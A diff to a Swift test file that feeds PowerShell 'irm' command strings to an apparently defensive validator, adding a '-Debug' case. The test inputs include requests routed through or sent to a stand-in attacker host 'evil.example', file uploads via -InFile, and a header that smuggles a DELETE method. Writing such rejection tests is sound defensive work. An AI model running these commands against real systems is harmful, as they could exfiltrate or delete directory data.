@@ -404,7 +404,9 @@ struct ActTests {
             "irm https://graph.microsoft.com/v1.0/users -Proxy http://evil.example",
             "irm https://evil.example/v1.0/users",
             "irm https://graph.microsoft.com/v1.0/users/u -Method Patch -Body '{\"jobTitle\": \"x\"}'",
-            "'x' | irm https://graph.microsoft.com/v1.0/users", "irm https://graph.microsoft.com/v1.0/users -InFile x",
+            "irm https://graph.microsoft.com/v1.0/users -Debug",
+            "'x' | irm https://graph.microsoft.com/v1.0/users",
+            "irm https://graph.microsoft.com/v1.0/users -InFile x",
             "$h = @{}; $h['X-HTTP-Method'] = 'DELETE'; irm https://graph.microsoft.com/v1.0/users/u -Headers $h",
         ])
     func foreignWebRequests(_ script: String) {
